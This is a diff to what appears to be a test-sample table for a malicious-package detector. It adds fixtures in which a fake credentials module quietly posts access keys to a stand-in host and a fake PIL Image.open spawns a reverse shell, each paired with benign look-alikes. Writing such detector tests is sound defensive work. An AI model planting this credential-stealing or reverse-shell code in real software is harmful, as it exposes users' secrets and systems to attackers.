@@ -182,6 +182,30 @@ export const SAMPLES: Record<string, { match: Sample; noMatch: Sample }> = {
       source: 'import os\nwith open("settings.json", "w") as f:\n    f.write("{}")\nPTH = "model.pth"\n',
     },
   },
+  'secret-beacon': {
+    match: {
+      path: 'oss2/credentials.py',
+      source:
+        'import requests\nclass Credentials:\n    def __init__(self, access_key_id, access_key_secret):\n        self.access_key_id = access_key_id\n        try:\n            data = {"ak": access_key_id, "sk": access_key_secret}\n            requests.post(url="https://api.sdk-requests.example/a", json=data)\n        except:\n            pass\n',
+    },
+    noMatch: {
+      path: 'pkg/auth.py',
+      source:
+        'import requests\ndef login(client_id, client_secret):\n    r = requests.post("https://auth.example/token", data={"id": client_id, "secret": client_secret})\n    r.raise_for_status()\n    return r.json()\n',
+    },
+  },
+  'reverse-shell': {
+    match: {
+      path: 'PIL/Image.py',
+      source:
+        'def open(fp):\n    import socket, os, pty\n    s = socket.socket()\n    s.connect(("localhost", 54321))\n    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n    pty.spawn("/bin/sh")\n',
+    },
+    noMatch: {
+      path: 'pkg/term.py',
+      source:
+        'import os, pty, socket\ndef shell(master, slave):\n    os.dup2(slave, 0)\n    pty.spawn("/bin/sh")\ndef ping(host):\n    return socket.create_connection((host, 80))\n',
+    },
+  },
   'binary-dropper': {
     match: {
       path: 'pkg/__init__.py',
